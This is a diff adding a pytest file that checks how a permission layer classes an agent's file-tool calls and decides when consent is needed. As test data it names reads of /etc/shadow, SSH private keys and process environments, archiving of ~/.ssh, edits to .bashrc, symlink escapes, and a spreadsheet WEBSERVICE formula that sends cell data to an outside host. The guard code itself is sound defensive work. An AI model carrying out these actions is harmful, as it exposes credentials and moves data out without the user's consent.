@@ -1,0 +1,72 @@
+"""What may be read, written and renamed without a question: by where it really lies."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from tests.commands.policy.test_policy import Judge
+from ufo.schema.action_class import ActionClass
+
+OBSERVE, EDIT, CREATE = ActionClass.OBSERVE, ActionClass.EDIT, ActionClass.CREATE
+OUTSIDE, OVERWRITE, SYSTEM = ActionClass.OUTSIDE, ActionClass.OVERWRITE, ActionClass.SYSTEM
+
+
+@pytest.fixture
+def judge(tmp_path: Path) -> Judge:
+    work = tmp_path / "work"
+    (work / "in").mkdir(parents=True)
+    (tmp_path / "far").mkdir()
+    (tmp_path / "far/secret.txt").write_text("x")
+    for name in ("a.txt", "in/1.jpg", "in/2.jpg"):
+        (work / name).write_text("before")
+    (work / "link").symlink_to(tmp_path / "far")
+    return Judge(work)
+
+
+@pytest.mark.parametrize(
+    ("tool", "arguments", "expected"),
+    [
+        ("read_file", {"path": "a.txt"}, OBSERVE),
+        ("read_file", {"path": "/etc/os-release"}, OBSERVE),
+        ("read_file", {"path": "/etc/shadow"}, SYSTEM),
+        ("read_file", {"path": "~/.ssh/id_rsa"}, SYSTEM),
+        ("read_file", {"path": "/proc/self/environ"}, SYSTEM),
+        ("read_file", {"path": "../far/secret.txt"}, OUTSIDE),
+        ("read_file", {"path": "link/secret.txt"}, OUTSIDE),
+        ("find_files", {"folder": "."}, OBSERVE),
+        ("find_files", {"folder": "link"}, OUTSIDE),
+        ("find_files", {"folder": "~/.config"}, SYSTEM),
+        ("write_file", {"path": "new.txt", "text": "x"}, CREATE),
+        ("write_file", {"path": "a.txt", "text": "x", "mode": "append"}, EDIT),
+        ("write_file", {"path": "a.txt", "text": "x", "mode": "over"}, OVERWRITE),
+        ("write_file", {"path": ".bashrc", "text": "x", "mode": "append"}, SYSTEM),
+        ("write_file", {"path": "x.desktop", "text": "x"}, SYSTEM),
+        ("write_file", {"path": "link/new.txt", "text": "x"}, OUTSIDE),
+        ("write_file", {"path": "link/secret.txt", "text": "x", "mode": "append"}, OVERWRITE),
+        ("rename_files", {"files": "in/*.jpg", "to": "p-{n}.jpg"}, CREATE),
+        ("rename_files", {"files": "in/*.jpg", "to": ".{n}rc"}, SYSTEM),
+        ("rename_files", {"files": "link/*.txt", "to": "{n}.txt"}, OUTSIDE),
+        ("rename_files", {"files": "nothing*", "to": "{n}.txt"}, EDIT),
+        ("restore_file", {"name": "x", "target": "x.txt"}, CREATE),
+        ("restore_file", {"name": "x", "target": "~/.profile"}, SYSTEM),
+        ("pack_archive", {"sources": ["in"], "target": "in.zip"}, CREATE),
+        ("pack_archive", {"sources": ["link"], "target": "far.zip"}, OUTSIDE),
+        ("pack_archive", {"sources": ["~/.ssh"], "target": "keys.zip"}, SYSTEM),
+        ("unpack_archive", {"source": "a.zip", "target": "out"}, CREATE),
+        ("unpack_archive", {"source": "a.zip", "target": "~/.config"}, SYSTEM),
+        ("unpack_archive", {"source": "a.zip", "target": "link"}, OUTSIDE),
+        ("pdf_of_pages", {"parts": [{"file": "a.pdf"}], "target": "b.pdf"}, CREATE),
+        ("pdf_of_pages", {"parts": [{"file": "a.pdf"}, {"file": "link/b.pdf"}], "target": "c.pdf"}, OUTSIDE),
+        ("make_document", {"target": "b.ods", "sheets": {"A": [["=SUM(A1:A2)"]]}}, CREATE),
+        ("make_document", {"target": "b.ods", "sheets": {"A": [['=WEBSERVICE("http://x/"&A1)']]}}, ActionClass.SEND),
+        ("convert_document", {"source": "a.odt", "target": ".bashrc"}, SYSTEM),
+    ],
+)
+async def test_a_call_is_judged_by_where_its_files_really_lie(
+    judge: Judge, tool: str, arguments: dict[str, object], expected: ActionClass
+) -> None:
+    verdict = await judge.of(tool, **arguments)
+    assert verdict.action_class is expected, verdict
+    assert verdict.needs_consent is (expected in (OUTSIDE, OVERWRITE, SYSTEM, ActionClass.SEND))
